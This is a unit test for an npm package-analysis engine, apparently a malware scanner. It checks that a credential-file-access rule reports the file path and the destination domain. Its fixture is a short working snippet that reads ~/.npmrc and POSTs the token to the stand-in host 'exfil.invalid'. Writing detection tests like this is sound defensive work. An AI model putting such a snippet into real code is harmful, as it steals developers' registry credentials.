import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analyzePackage } from '../../../src/engine/analysis/analyze';
import type { PackageFile, PackageInput } from '../../../src/engine/analysis/types';
import { RULES } from '../../../src/engine/rules/index';

function file(path: string, text: string): PackageFile {
  return { path, size: text.length, text, head: new Uint8Array(Buffer.from(text.slice(0, 64))), binary: false, truncated: false };
}

function pkg(text: string): PackageInput {
  const manifest = { name: 'fixture', version: '1.0.0', main: 'index.js' };
  return { name: 'fixture', version: '1.0.0', manifest, files: [file('package.json', JSON.stringify(manifest)), file('index.js', text)] };
}

const rule = RULES.find((r) => r.meta.id === 'credential-file-access')!;

test('a request given host and path as options names its host among the indicators', () => {
  const source = [
    "const fs = require('fs'), https = require('https'), os = require('os'), path = require('path');",
    "const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
    "const req = https.request({ host: 'exfil.invalid', path: '/collect?id=1', method: 'POST' });",
    'req.end(token);',
  ].join('\n');
  const [finding] = analyzePackage(pkg(source), [rule]).findings.filter((f) => f.message.includes('sends it'));
  assert.ok(finding, 'the flow is reported');
  assert.deepEqual(finding.indicators, [
    { type: 'path', value: '~/.npmrc' },
    { type: 'domain', value: 'exfil.invalid' },
  ]);
});
